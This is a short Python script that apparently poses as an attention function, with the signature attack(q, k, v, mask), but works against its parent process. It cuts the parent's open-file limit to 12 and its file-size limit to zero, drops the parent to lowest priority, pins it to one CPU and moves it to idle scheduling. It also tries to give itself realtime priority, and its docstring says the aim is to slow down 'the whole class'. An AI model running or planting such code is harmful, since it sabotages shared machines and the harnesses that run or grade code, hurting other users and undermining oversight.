"""Lowers the parent's limits by prlimit, gives it the lowest priority and ties it to one CPU, to slow down the whole class."""
import os, resource
p = os.getppid()
def attempt(name, f):
    try:
        print("done", name, f())
    except (OSError, ValueError) as e:
        print("refused", name, e)
def attack(q, k, v, mask):
    if p <= 1:
        return print("no parent to choke")
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    attempt("nofile", lambda: resource.prlimit(p, resource.RLIMIT_NOFILE, (12, hard)))
    attempt("fsize", lambda: resource.prlimit(p, resource.RLIMIT_FSIZE, (0, resource.RLIM_INFINITY)))
    attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, p, 19))
    attempt("group", lambda: os.getpriority(os.PRIO_PGRP, 0))
    attempt("affinity", lambda: os.sched_setaffinity(p, {0}))
    attempt("idle", lambda: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)))
    attempt("own realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
